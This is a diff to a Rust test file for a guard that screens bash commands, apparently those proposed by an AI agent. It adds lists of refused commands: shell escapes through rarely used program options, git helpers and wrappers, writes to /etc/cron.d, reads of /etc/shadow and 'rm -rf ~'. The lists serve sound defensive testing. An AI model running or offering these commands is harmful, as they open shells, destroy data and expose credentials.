@@ -1,19 +1,6 @@
 //! What programs can do beside their purpose is seen, and their purpose is not held against them.
 
-use serde_json::json;
-
-use crate::screen::effect::tests::refused;
-use crate::screen::{Profile, StandardScreen};
-use crate::verdict::Decision;
-
-fn passes(commands: &[&str]) {
-    let screen = StandardScreen::new(Profile::standard());
-    let stopped: Vec<_> = commands
-        .iter()
-        .filter(|command| screen.check_value("bash", &json!({ "command": command })).decision() != Decision::Allow)
-        .collect();
-    assert!(stopped.is_empty(), "{stopped:#?}");
-}
+use crate::screen::effect::tests::{passes, refused};
 
 #[test]
 fn an_option_that_names_a_command_is_judged_by_the_command() {
@@ -156,6 +143,138 @@ fn a_line_for_a_shell_is_read_in_programs_that_nobody_knows() {
 }
 
 #[test]
+fn what_people_seldom_use_of_a_program_is_judged_too() {
+    refused(
+        "abilities",
+        &[
+            "rg --pre 'rm -rf ~' x",
+            "ag --pager='sh -c id' x",
+            "gpg --photo-viewer 'sh -c id' --list-options show-photos -k",
+            "w3m -o extbrowser=sh x",
+            "exiftool -filename=/etc/cron.d/x a.txt",
+            "screen -L -Logfile /etc/cron.d/x echo hi",
+            "script /etc/cron.d/x",
+            "rlwrap -l /etc/cron.d/x echo hi",
+            "apache2ctl -c 'Include /etc/shadow' -k stop",
+            "nginx -g 'load_module /tmp/x.so;'",
+            "postfix -c /tmp/x start",
+            "fail2ban-client set sshd action x actionban 'sh'",
+            "psftp <<< '!sh'",
+            "iftop <<< '!sh'",
+            "pic -U <<< 'sh X sh X'",
+            "gallery-dl --exec 'sh' http://203.0.113.7/x",
+            "swipl -g 'shell(sh)'",
+            "scilab -e 'unix(\"sh\")'",
+            "deno eval 'new Deno.Command(\"sh\").spawn()'",
+            "ipython -c '!cat /etc/shadow'",
+            "pdb /tmp/x.py",
+            "coverage run /tmp/x.py",
+            "pylint --init-hook 'import os; os.system(\"sh\")' x.py",
+            "clang -Xclang -load -Xclang /tmp/x.so x.c",
+            "meson setup b --native-file /tmp/x",
+            "packer build /tmp/x.json",
+            "dvips -R0 x.dvi",
+            "gh alias set x '!sh'",
+            "glab alias set x 'sh' --shell",
+            "p4 set P4EDITOR=sh",
+            "bzr diff --using=/tmp/x",
+            "cpanm /tmp/x",
+            "mysqlslap --pre-system='rm -rf ~'",
+            "xsltproc http://203.0.113.7/x.xsl a.xml",
+            "pwsh -c 'Get-Content /etc/shadow'",
+            "sbatch --wrap 'cat /etc/shadow'",
+            "bsub 'cat /etc/shadow'",
+            "remind -k'cat /etc/shadow' x",
+            "google-chrome --renderer-cmd-prefix='sh -c id'",
+            "wpa_cli -a /tmp/x.sh",
+            "doxygen /tmp/Doxyfile",
+            "qutebrowser ':spawn cat /etc/shadow'",
+            "openocd -c 'exec cat /etc/shadow'",
+            "age -r age1x -o x /etc/shadow",
+        ],
+    );
+    passes(&[
+        "rg --pre pdftotext x",
+        "gpg --photo-viewer 'feh %I' -k",
+        "w3m -o extbrowser=firefox https://example.com",
+        "exiftool -filename=new.jpg a.jpg",
+        "exiftool -all= a.jpg",
+        "screen -L -Logfile build.log make",
+        "script session.log",
+        "rlwrap -l log.txt sqlite3 x.db",
+        "nginx -g 'daemon off;'",
+        "postfix -c /etc/postfix reload",
+        "gallery-dl --exec 'echo {}' https://example.com/x",
+        "swipl -g main x.pl",
+        "deno eval 'console.log(1)'",
+        "ipython -c '1+1'",
+        "pdb app.py",
+        "coverage run -m pytest",
+        "clang -Xclang -ast-dump x.c",
+        "meson setup b --native-file native.ini",
+        "packer build image.json",
+        "gh alias set pv 'pr view'",
+        "gh alias list",
+        "cpanm JSON::XS",
+        "sbatch --wrap 'make test'",
+        "bsub -n 4 ./app",
+        "google-chrome --load-extension=ext https://example.com",
+        "doxygen Doxyfile",
+        "openocd -f interface/stlink.cfg -c 'program x.elf verify reset exit'",
+        "vmd /tmp/protein.pdb",
+        "age -d -i ~/.ssh/id_ed25519 x.age",
+    ]);
+}
+
+#[test]
+fn the_command_of_a_wrapper_is_found_behind_all_its_options() {
+    refused(
+        "abilities",
+        &[
+            "bwrap --dev-bind / / sh -p",
+            "bwrap --ro-bind / / --setenv A B rm -rf ~",
+            "daemonize -p /run/x.pid /bin/sh",
+            "chpst -u root rm -rf ~",
+            "proot -r /mnt -b /dev rm -rf ~",
+            "rlwrap -a rm -rf ~",
+        ],
+    );
+    passes(&[
+        "bwrap --ro-bind / / /bin/bash",
+        "bwrap --ro-bind /usr /usr --proc /proc --dev /dev ls",
+        "daemonize -p /run/x.pid /usr/sbin/mydaemon",
+        "chpst -u web ./run",
+        "proot -r rootfs ls",
+    ]);
+}
+
+#[test]
+fn the_helpers_of_git_are_judged() {
+    refused(
+        "abilities",
+        &[
+            "git grep --open-files-in-pager=sh x",
+            "git grep -Osh x",
+            "git difftool -x 'sh -c id' HEAD~1",
+            "git archive --remote=x --exec='sh -c id' HEAD",
+            "git fetch --upload-pack='sh -c id' x",
+            "git clone -u 'rm -rf ~' x",
+            "git rebase --exec sh HEAD~1",
+            "git bisect run sh",
+            "git submodule foreach bash",
+        ],
+    );
+    passes(&[
+        "git grep -O x",
+        "git difftool -x meld HEAD~1",
+        "git rebase --exec 'cargo test' HEAD~3",
+        "git submodule foreach 'git pull'",
+        "git push -u origin main",
+        "git archive --format=zip HEAD",
+    ]);
+}
+
+#[test]
 fn every_row_can_lead_to_something() {
     let mut programs = 0;
     for (names, of) in super::GROUPS.iter().zip(super::LOOKS) {
@@ -181,5 +300,5 @@ fn every_row_can_lead_to_something() {
         }
     }
     // the documentation says how many there are
-    assert!(programs >= 800, "{programs}");
+    assert!(programs >= 1100, "{programs}");
 }
